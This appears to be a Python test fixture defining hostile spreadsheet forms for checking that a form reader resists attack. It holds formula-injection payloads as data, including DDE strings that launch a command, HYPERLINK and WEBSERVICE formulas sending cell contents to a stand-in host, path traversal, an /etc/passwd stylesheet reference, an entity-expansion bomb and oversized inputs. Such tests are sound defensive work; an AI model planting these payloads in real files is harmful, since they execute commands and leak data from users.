"""Our own forms with something slipped in: live formulas, formulas as text, macros, links, absurd values."""

from __future__ import annotations

import re

from kaohe.sheets.form_layout import FORM_TITLE
from kaohe.workbooks.grid import column_letter
from tests.hostile.case import MIB, FormCase
from tests.hostile.forms import (
    Change,
    form_edited,
    good,
    identity,
    part_edited,
    places,
    raw,
    sheet_edited,
    typed,
    with_parts,
)
from tests.hostile.packages import LAUGHS

_TEXT, _LIVE, _PARTS, _VALUES, _WHO, _XML = (
    "文字冒充公式",
    "表内公式",
    "宏、链接、嵌入",
    "荒唐的数、日期和文字",
    "冒名",
    "怪异的 XML",
)
DDE = "=cmd|' /C calc'!A0"
_LINK = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
    b'Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
    b'Target="file://192.0.2.1/share/x.xlsx" TargetMode="External"/></Relationships>'
)


def _rows_added(count: int, code: str, value: str = "", first: int = 0) -> Change:
    """More rows below the table: ``code`` (may hold the row as %d), and the row as value if one is wanted."""

    def change(form: bytes) -> bytes:
        at = places(form)
        row, left = first or at["X1", "代码"][0] + 1000, column_letter(at["X1", "代码"][1])
        right = column_letter(at["X1", "完成值"][1])

        def line(n: int) -> str:
            text = f'<c r="{left}{n}" t="inlineStr"><is><t>{code % n if "%d" in code else code}</t></is></c>'
            number = f'<c r="{right}{n}"><v>{n}</v></c>' if value else ""
            return f'<row r="{n}">{text if code else ""}{number}</row>'

        more = "".join(map(line, range(row, row + count))).encode()
        added = sheet_edited(FORM_TITLE, lambda xml: xml.replace(b"</sheetData>", more + b"</sheetData>"))
        return added(form if first else good(form))

    return change


def _one_code_over_all(count: int) -> Change:
    """Rows of unknown codes, and below them as many values whose code is merged over all of them."""

    def change(form: bytes) -> bytes:
        row, column = places(form)["X1", "代码"]
        first, letter = row + 1000 + count - 1, column_letter(column)
        merged = f'<mergeCell ref="{letter}{first}:{letter}{first + count}"/>'.encode()
        codes = _rows_added(count, "Q%d")
        values = _rows_added(count, "", "1", first + 1)

        def both(xml: bytes) -> bytes:
            return re.sub(rb"(<mergeCells[^>]*>)", rb"\1" + merged, xml, count=1)

        return sheet_edited(FORM_TITLE, both)(values(codes(form)))

    return change


FORMS = (
    FormCase(_TEXT, "完成值写 =cmd|' /C calc'!A0", typed(完成值=DDE), ("V02",)),
    FormCase(_TEXT, "完成值写 =1+1(文字)", typed(完成值="=1+1"), ("V02",)),
    FormCase(_TEXT, "完成值写 @SUM(1+1)*cmd|…", typed(完成值="@SUM(1+1)*cmd|' /C calc'!A0"), ("V02",)),
    FormCase(_TEXT, "完成值写 +cmd|…", typed(完成值="+cmd|' /C calc'!A0"), ("V02",)),
    FormCase(_TEXT, "原因写 =cmd|…", typed(原因=DDE)),
    FormCase(_TEXT, "措施写 -2+3+cmd|…", typed(措施="-2+3+cmd|' /C calc'!A0")),
    FormCase(_TEXT, "原因写 =HYPERLINK(…)", typed(原因='=HYPERLINK("http://192.0.2.1/?"&A1,"点这里")')),
    FormCase(_TEXT, "措施写 =WEBSERVICE(…)", typed(措施='=WEBSERVICE("http://192.0.2.1/"&A1)')),
    FormCase(_TEXT, "原因以制表符开头再写 =cmd|…", typed(原因="\t" + DDE)),
    FormCase(_TEXT, "原因换行后写 =cmd|…", typed(原因="见附件\n" + DDE)),
    FormCase(_TEXT, "原因写转义 _x003D_cmd|…", typed(原因="_x003D_cmd|' /C calc'!A0")),
    FormCase(_TEXT, "原因写 XML:</t></is></c><c><f>", typed(原因="</t></is></c><c><f>1+1</f></c>")),
    FormCase(
        _TEXT, "原因写 [red]终端标记[/red]", typed(原因="[red]x[/red] [/] [link=http://192.0.2.1]y[/link]")
    ),
    FormCase(_LIVE, "完成值是 DDE 公式,存有结果", raw("<f>cmd|' /C calc'!A0</f><v>100</v>")),
    FormCase(_LIVE, "完成值引用别的工作簿,存有结果", raw("<f>[1]Sheet1!A1</f><v>100</v>")),
    FormCase(_LIVE, "完成值引用网络路径,没有结果", raw("<f>'\\\\192.0.2.1\\x\\[a.xlsx]S'!A1</f>"), ("V06",)),
    FormCase(
        _LIVE,
        "完成值是 WEBSERVICE,结果是错误值",
        raw("<f>WEBSERVICE(A1)</f><v>#VALUE!</v>", 't="e"'),
        ("V05",),
    ),
    FormCase(_LIVE, "完成值是公式,结果是文字 =cmd|…", raw(f"<f>A1</f><v>{DDE}</v>", 't="str"'), ("V02",)),
    FormCase(_LIVE, "原因是公式,结果是文字 =cmd|…", raw(f"<f>A1</f><v>{DDE}</v>", 't="str"', "原因")),
    FormCase(_LIVE, "完成值是一百万个括号的公式", raw(f"<f>{'(' * 1_000_000}</f><v>100</v>")),
    FormCase(
        _LIVE, "错误值前有三百万个空格", raw(f"<f>1</f>{' ' * 3_000_000}<v>#N/A</v>", 't="e"'), ("V05",)
    ),
    FormCase(_LIVE, "公式前后各三百万个空格", raw(f"{' ' * 3_000_000}<f>1</f>{' ' * 3_000_000}"), ("V06",)),
    FormCase(_PARTS, "带宏", with_parts({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 999}), suffix=".xlsm"),
    FormCase(_PARTS, "带宏,扩展名却是 .xlsx", with_parts({"xl/vbaProject.bin": b"x" * 999})),
    FormCase(
        _PARTS,
        "带外部链接部件",
        with_parts(
            {
                "xl/externalLinks/externalLink1.xml": b"<x/>",
                "xl/externalLinks/_rels/externalLink1.xml.rels": _LINK,
            }
        ),
    ),
    FormCase(_PARTS, "带嵌入的可执行程序", with_parts({"xl/embeddings/oleObject1.bin": b"MZ" * 5000})),
    FormCase(_PARTS, "带 ActiveX 控件", with_parts({"xl/activeX/activeX1.bin": b"x" * 5000})),
    FormCase(_PARTS, "带数据连接", with_parts({"xl/connections.xml": b"<connections/>"})),
    FormCase(
        _PARTS, "没有人读的部件里有实体声明", with_parts({"docProps/custom.xml": LAUGHS + b"<x>&b;</x>"})
    ),
    FormCase(_PARTS, "图片从网络取", with_parts({"xl/drawings/_rels/drawing1.xml.rels": _LINK})),
    FormCase(_PARTS, "两千个无关部件", with_parts({f"customXml/item{n}.xml": b"<x/>" for n in range(2000)})),
    FormCase(_VALUES, "完成值是 1E+308", raw("<v>1E+308</v>"), ("V22",)),
    FormCase(_VALUES, "完成值是 1E+400", raw("<v>1E+400</v>"), ("V02",)),
    FormCase(_VALUES, "完成值是 NaN", raw("<v>NaN</v>"), ("V02",)),
    FormCase(_VALUES, "完成值是四百位数", raw(f"<v>{'9' * 400}</v>"), ("V02",)),
    FormCase(_VALUES, "完成值是四百位数(文字)", typed(完成值="9" * 400), ("V02",)),
    FormCase(_VALUES, "完成值是 99999-99-99 日期", raw("<v>99999-99-99</v>", 't="d"'), ("V02",)),
    FormCase(_VALUES, "完成值是 1E+9999999(文字)", typed(完成值="1E+9999999"), ("V02",)),
    FormCase(_VALUES, "完成值是三万字的文字", typed(完成值="九" * 30_000), ("V02",)),
    FormCase(_VALUES, "完成值是三万位的千分位数", typed(完成值="1,111" * 6_000), ("V02",)),
    FormCase(
        _VALUES,
        "完成值是一百万字的文字",
        raw(f"<is><t>{'长 ' * 500_000}</t></is>", 't="inlineStr"'),
        ("V02",),
    ),
    FormCase(
        _VALUES, "完成值是一百万位数字", raw(f"<is><t>{'1' * 1_000_000}</t></is>", 't="inlineStr"'), ("V02",)
    ),
    FormCase(
        _VALUES, "原因是一百万字的文字", raw(f"<is><t>{'长 ' * 500_000}</t></is>", 't="inlineStr"', "原因")
    ),
    FormCase(
        _VALUES,
        "原因里有控制字符和零宽字符",
        raw("<is><t>a_x0000_b_x0007_\u202e\u200b\ufeff</t></is>", 't="inlineStr"', "原因"),
    ),
    FormCase(_VALUES, "原因里有 U+FFFF", raw("<is><t>a\uffffb</t></is>", 't="inlineStr"', "原因")),
    FormCase(
        _VALUES,
        "原因里有半个代理对 &#xD800;",
        raw("<is><t>&#xD800;</t></is>", 't="inlineStr"', "原因"),
        ("W01",),
        "reader",
    ),
    FormCase(_WHO, "下发编号换成别的", identity(编号="=cmd|' /C calc'!A0"), ("W03",)),
    FormCase(_WHO, "单位代码换成别的单位", identity(单位代码="U1"), ("W04",)),
    FormCase(_WHO, "期次写成 ../../etc", identity(期次="../../etc"), ("W05",)),
    FormCase(_WHO, "方案版本写成 =cmd|…", identity(方案版本=DDE)),
    FormCase(_WHO, "指标代码写成 =cmd|…", typed(代码=DDE), ("V43",)),
    FormCase(_XML, "三千行没有的指标", _rows_added(3_000, "Q%d"), ("V15",), seconds=6.0),
    FormCase(_XML, "十万行没有的指标", _rows_added(100_000, "Q%d"), ("W01",), seconds=6.0, memory=256 * MIB),
    FormCase(_XML, "两千行有数没有代码", _rows_added(2_000, "", "1"), ("V42",)),
    FormCase(
        _XML, "二十万行有数没有代码", _rows_added(200_000, "", "1"), ("W01",), seconds=6.0, memory=256 * MIB
    ),
    FormCase(
        _XML,
        "十万行同一指标,数各不相同",
        _rows_added(100_000, "X1", "1"),
        ("W01",),
        seconds=6.0,
        memory=256 * MIB,
    ),
    FormCase(_XML, "四千行同一指标,数各不相同", _rows_added(4_000, "X1", "1"), ("V17", "V22"), seconds=6.0),
    FormCase(_XML, "一个代码合并到两千行", _one_code_over_all(2_000), ("V15", "V42"), seconds=6.0),
    FormCase(
        _XML,
        "工作表加两百万字节注释",
        form_edited(lambda x: x.replace(b"<sheetData>", b"<!--" + b"-x" * 999_999 + b"--><sheetData>")),
    ),
    FormCase(
        _XML,
        "处理指令引用外部样式",
        form_edited(
            lambda x: x.replace(b"<worksheet", b'<?xml-stylesheet href="file:///etc/passwd"?><worksheet', 1)
        ),
    ),
    FormCase(
        _XML,
        "二十万个合并区域",
        form_edited(
            lambda x: x.replace(
                b"</sheetData>", b"</sheetData><x>" + b'<mergeCell ref="A1:XFD1048576"/>' * 200_000 + b"</x>"
            )
        ),
        memory=96 * MIB,
    ),
    FormCase(
        _XML,
        "六万五千种百分比格式",
        part_edited(
            "xl/styles.xml",
            lambda x: x.replace(b"</cellXfs>", b'<xf numFmtId="9"/>' * 65_000 + b"</cellXfs>"),
        ),
    ),
    FormCase(
        _XML,
        "二十万种单元格格式",
        part_edited(
            "xl/styles.xml",
            lambda x: x.replace(b"</cellXfs>", b'<xf numFmtId="9"/>' * 200_000 + b"</cellXfs>"),
        ),
        ("W01",),
        "too_many_formats",
    ),
    FormCase(
        _XML,
        "数字格式是一百万个方括号",
        part_edited(
            "xl/styles.xml",
            lambda x: x.replace(
                b"<cellXfs",
                b'<numFmts><numFmt numFmtId="999" formatCode="%'
                + b"[" * 1_000_000
                + b'"/></numFmts><cellXfs',
                1,
            ),
        ),
    ),
    FormCase(
        _XML,
        "一个元素十万个属性",
        form_edited(
            lambda x: x.replace(
                b"<sheetData>",
                b"<z " + b" ".join(b'a%d="1"' % n for n in range(100_000)) + b"/><sheetData>",
                1,
            )
        ),
    ),
    FormCase(
        _XML,
        "元素套元素十万层",
        form_edited(
            lambda x: x.replace(b"</sheetData>", b"</sheetData>" + b"<z>" * 100_000 + b"</z>" * 100_000)
        ),
    ),
)
"""A unit of its own is made for each; ``good`` is what the others send."""

__all__ = ["DDE", "FORMS", "good"]
